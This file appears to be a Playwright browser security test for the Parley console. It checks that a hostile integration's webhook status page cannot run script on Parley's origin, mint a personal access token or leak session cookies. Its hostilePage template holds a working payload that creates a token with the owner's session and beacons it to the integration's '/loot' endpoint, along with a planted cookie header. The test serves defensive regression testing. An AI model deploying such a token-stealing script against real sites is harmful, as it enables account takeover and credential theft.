/**
 * Issue #24 item 1, the attack end to end in Chromium: a workspace developer's integration (an in-process HTTP
 * server on loopback, test/helpers/outside-integration.ts: the outside party, which Parley does not control) answers
 * every webhook with an HTML page whose script, on Parley's origin, would mint a personal access token with the
 * console's session (`POST /v1/admin/account/pats` with the console header; a synchronous request, so the token is
 * made before the page's load event) and send it to the outside server. The owner, signed in to the console in the
 * same browser, opens `{webhookUrl}/status`. No token may be created, the script may not run, and the session cookie
 * may not reach the integration.
 */
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { Browser } from 'playwright-core'
import { startParley, type Harness } from '../helpers/harness.js'
import { adminClient } from '../helpers/admin-client.js'
import { installOutsideIntegration, startOutsideIntegration, type OutsideIntegration } from '../helpers/outside-integration.js'
import { describeBrowser, launchBrowser } from './browser.js'

const hostilePage = (workspaceId: string, loot: string) => `<!doctype html><html><head><title>status</title></head><body>
<p>Integration status: OK</p>
<script>
  window.__ran = true
  var xhr = new XMLHttpRequest()
  xhr.open('POST', '/v1/admin/account/pats', false)
  xhr.setRequestHeader('content-type', 'application/json')
  xhr.setRequestHeader('x-parley-console', '1')
  xhr.setRequestHeader('x-workspace-id', ${JSON.stringify(workspaceId)})
  xhr.send(JSON.stringify({ note: 'stolen by the integration' }))
  navigator.sendBeacon(${JSON.stringify(loot)}, xhr.responseText)
</script>
</body></html>`

describeBrowser('a hostile integration\'s webhook page, opened by the signed-in owner', () => {
  let h: Harness
  let browser: Browser
  let outside: OutsideIntegration

  beforeAll(async () => {
    ;[h, browser] = await Promise.all([startParley({ listen: true }), launchBrowser()])
    outside = await startOutsideIntegration({ status: 200, headers: {}, body: '' })
    outside.answer = {
      status: 200,
      headers: { 'content-type': 'text/html; charset=utf-8', 'access-control-allow-origin': '*', 'set-cookie': 'planted=1; Path=/' },
      body: hostilePage(h.credentials.workspaceId, `${outside.url}/loot`),
    }
  })
  afterAll(async () => {
    await browser?.close()
    await outside?.close()
    await h?.close()
  })

  const patCount = async () => {
    const res = await adminClient(h)('GET', '/account/pats')
    expect(res.status, res.text).toBe(200)
    return (res.body.pats as unknown[]).length
  }

  it('creates no token: the page is not run on Parley\'s origin, and the session cookie does not reach the integration', async () => {
    const { webhookUrl } = await installOutsideIntegration(h, h.credentials.botId, outside.url)
    const context = await browser.newContext()
    const page = await context.newPage()
    try {
      // The owner signs in to the console: the session cookie is set for this origin.
      await page.goto(`${h.baseUrl}/console/`)
      await page.getByLabel('Personal access token').fill(h.credentials.token)
      await page.keyboard.press('Enter')
      await page.getByText('Signed in as owner@localhost').waitFor()
      expect((await context.cookies(h.baseUrl)).map((c) => c.name)).toContain('parley_console')
      const before = await patCount()
      const requests: string[] = []
      page.on('request', (r) => requests.push(`${r.method()} ${new URL(r.url()).pathname}`))
      const relayed: Record<string, string>[] = []
      page.on('response', (r) => { if (r.url().startsWith(webhookUrl)) relayed.push(r.headers()) })

      // The owner opens the integration's status page. Served inert, it is a download (goto then rejects) or an
      // inert document; either way it has come back once goto settles, and a script of it would have run by then.
      const seen = outside.webhooks.length
      const navigation = await page.goto(`${webhookUrl}/status`).then(() => 'loaded', (err: Error) => err.message)
      expect(outside.webhooks.length, navigation).toBe(seen + 1) // the integration did answer
      expect(requests.filter((r) => r.includes('/v1/admin/'))).toEqual([])
      expect(await patCount()).toBe(before)
      expect(await page.evaluate(() => (window as unknown as { __ran?: boolean }).__ran ?? false)).toBe(false)
      expect((await context.cookies(h.baseUrl)).map((c) => c.name)).not.toContain('planted')
      expect(outside.webhooks.at(-1)!.headers.cookie).toBeUndefined()

      expect(relayed).toHaveLength(1)
      expect(relayed[0]!['content-security-policy']).toMatch(/^sandbox\b/)
      expect(relayed[0]!['x-content-type-options']).toBe('nosniff')
      expect(relayed[0]!['set-cookie']).toBeUndefined()
      expect(relayed[0]!['access-control-allow-origin']).toBeUndefined()
    } finally {
      await context.close()
    }
  })
})
